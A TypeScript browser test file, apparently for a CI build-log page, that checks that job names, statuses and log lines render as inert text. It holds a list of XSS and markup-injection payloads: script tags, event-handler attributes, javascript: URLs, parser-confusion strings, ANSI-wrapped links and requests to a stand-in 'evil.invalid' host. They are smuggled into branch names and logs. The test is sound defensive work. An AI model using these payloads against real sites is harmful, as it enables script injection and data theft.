import { afterAll, beforeAll, describe, expect } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { startBrowser } from './pages-browser.ts';
import type { Dom } from './pages-dom.ts';
import { browserTest } from './pages-testing.ts';
import { ended, PagesWorld, type Watched } from './pages-world.ts';

/** Inside pages. */
declare const document: Dom['document'];
declare const location: Dom['location'];
declare const addEventListener: Dom['addEventListener'];

const EVIL = 'http://evil.invalid';
const CALL = 'globalThis.ran=1,alert(1)';
/** What has become code or a request somewhere: in elements, attributes, addresses, styles, templates, and by parsers' repairs. */
const MARKUP = [
  `<script>${CALL}</script>`,
  `<script src=${EVIL}/x.js></script>`,
  `<script type=module>import '${EVIL}/m.js'</script>`,
  `<img src=x onerror="${CALL}">`,
  `<img src=${EVIL}/beacon.png>`,
  `<svg onload="${CALL}">`,
  `<svg><script href="data:,${CALL}" /></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s>`,
  `<svg><use href="${EVIL}/x.svg#a">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${CALL}">`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<iframe src="javascript:${CALL}">`,
  `<object data="${EVIL}/x"></object>`,
  `<embed src="${EVIL}/x">`,
  `<video><source onerror="${CALL}">`,
  `<audio src=${EVIL}/x autoplay>`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<link rel=prefetch href=${EVIL}/x>`,
  `<style>@import '${EVIL}/x.css'; body{background:url(${EVIL}/y)}</style>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=Content-Security-Policy content="">`,
  `<form action=${EVIL}><button autofocus onfocus="${CALL}">`,
  `<input autofocus onfocus="${CALL}">`,
  `<details open ontoggle="${CALL}">`,
  `<body onload="${CALL}">`,
  `<marquee onstart="${CALL}">`,
  `<template><img src=x onerror="${CALL}"></template>`,
  `"><img src=x onerror="${CALL}">`,
  `' onmouseover='${CALL}' x='`,
  `--><script>${CALL}</script><!--`,
  `</title><script>${CALL}</script>`,
  `</textarea></noscript><img src=x onerror="${CALL}">`,
  `]]><script>${CALL}</script>`,
  `<a href="javascript:${CALL}" id=verdict>x</a>`,
  `<a href=${EVIL} ping=${EVIL}/ping>click</a>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `\${${CALL}} {{constructor.constructor('${CALL}')()}}`,
  `&lt;img src=x onerror=${CALL}&gt; &#60;script&#62;`,
  `\u202e<gpj.x>\u2066\u200b${EVIL}`,
  '__proto__ constructor hasOwnProperty toString',
];
const wrapped: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `\u001b[31m${text.slice(0, 5)}\u001b[0m${text.slice(5)}`,
  (text) => `\u001b]8;;javascript:${CALL}\u001b\\${text}\u001b]8;;\u001b\\`,
  (text) => `::group::${text}`,
  (text) => `\u001b[38;2;1;2;3;url(${EVIL})m${text}`,
];
const LINES = wrapped.flatMap((wrap) => MARKUP.map(wrap));

describe('what foreign programs wrote, on the pages', () => {
  let browser: Browser | null;
  let world: PagesWorld;
  beforeAll(async () => {
    browser = await startBrowser();
    world = await PagesWorld.open({
      place: { owner: 'acme', repo: 'plots', of: { branch: `"><img src=x onerror=${CALL}>` }, number: '4' },
    });
    await world.plan(MARKUP.map((name, i) => ({ id: `c${i}`, name: name.slice(0, 200) })));
    for (const [i, payload] of MARKUP.entries()) {
      const standing =
        i % 3 === 0
          ? { kind: 'running', attempt: 1, of: 2, runner: payload }
          : ended(payload, { because: payload, runner: payload });
      await world.stands(`c${i}`, i % 7 === 6 ? { kind: payload, tests: payload, duration: payload } : standing);
    }
    await world.append('c1', LINES.map((line) => `${line}\n`).join(''));
  });
  afterAll(async () => {
    await browser?.close();
    await world.close();
  });

  /** Counts what the browser had to refuse, too: nothing should even be tried. */
  const opened = async (id: string | null): Promise<Watched & { readonly refused: () => Promise<number> }> => {
    const watched = await world.watched(browser);
    await watched.page.addInitScript(() => {
      Object.assign(globalThis, { refusals: 0 });
      addEventListener('securitypolicyviolation', () => {
        (globalThis as unknown as { refusals: number }).refusals++;
      });
    });
    await watched.page.goto(world.address(id));
    return { ...watched, refused: () => watched.page.evaluate(() => (globalThis as unknown as { refusals: number }).refusals) };
  };
  const isHarmless = async ({ page, dialogs, offOrigin, errors, refused }: Awaited<ReturnType<typeof opened>>) => {
    const ran = await page.evaluate(() => (globalThis as unknown as { ran?: number }).ran ?? 0);
    expect({ dialogs, offOrigin, errors, ran, refused: await refused() }).toEqual({
      ...{ dialogs: [], offOrigin: [], errors: [], ran: 0, refused: 0 },
    });
    const tags = await page.evaluate(() => [...new Set([...document.querySelectorAll('#rows *')].map(({ tagName }) => tagName))]);
    for (const tag of tags) expect(['DIV', 'A', 'SPAN', 'MARK', 'BUTTON', 'TR', 'TH', 'TD']).toContain(tag);
    const hrefs = await page.evaluate(() =>
      [...document.querySelectorAll('#rows a')].map((link) => link.getAttribute('href') ?? ''),
    );
    for (const href of hrefs) expect(href).toMatch(/^(#L\d+|\.\/c\d+\/)$/);
  };

  browserTest('runs nothing, opens nothing and asks nobody: 210 lines of output (A8, S14, G19)', async () => {
    expect(LINES.length).toBeGreaterThanOrEqual(100);
    const opening = await opened('c1');
    const { page } = opening;
    const texts = new Map<string, string>();
    for (let line = 1; line <= LINES.length; line += 20) {
      await page.evaluate((hash) => location.replace(hash), `#L${line}`);
      await page.waitForFunction(
        ([from, to]) => {
          const isThere = (index: number): boolean =>
            document.querySelector(`#rows .row:not(.missing) [data-line="${index}"] ~ .text`) !== null;
          return Array.from({ length: to - from + 1 }, (_, index) => from + index).every(isThere);
        },
        [line - 1, Math.min(line + 19, LINES.length) - 1] as const,
      );
      const rows = await page.evaluate(() =>
        [...document.querySelectorAll('.row:not(.missing)')].map((row) =>
          [row.querySelector('.line'), row.querySelector('.text')].map((one) => one?.textContent),
        ),
      );
      for (const [number, text] of rows) texts.set(`${number}`, `${text}`);
    }
    // Each is there, as text, letter by letter.
    const shown = LINES.map((_, i) => texts.get(`${i + 1}`) ?? '');
    for (const [i, payload] of MARKUP.entries())
      for (let form = 0; form < 4; form++) expect(shown[form * MARKUP.length + i]).toBe(payload);
    await page.fill('#search', '<script');
    await page.waitForFunction(() => document.querySelectorAll('mark').length > 0);
    await page.keyboard.press('Enter');
    await page.locator('.line').first().hover();
    await isHarmless(opening);
  });

  browserTest('names, standings, reasons and runners are text on the page of the build (A8, S14, G19)', async () => {
    const opening = await opened(null);
    const isThere = () =>
      opening.page.waitForFunction((rows) => document.querySelectorAll('#rows tr').length === rows, MARKUP.length);
    // As the service sent it, and once the script told it again.
    await isThere();
    await opening.page.waitForFunction(() => document.body.dataset['looked'] !== undefined);
    await isThere();
    await isHarmless(opening);
  });

  browserTest(
    'and so they are on the page of each configuration (A8, S14, G19)',
    async () => {
      const opening = await opened('c0');
      for (let i = 0; i < MARKUP.length; i += 3) {
        for (const id of [`c${i}`, `c${i + 1}`, `c${i + 2}`].filter((one) => Number(one.slice(1)) < MARKUP.length)) {
          await opening.page.goto(world.address(id));
          await opening.page.waitForFunction(() => document.body.dataset['looked'] !== undefined);
          await isHarmless(opening);
        }
      }
    },
    90_000,
  );
});
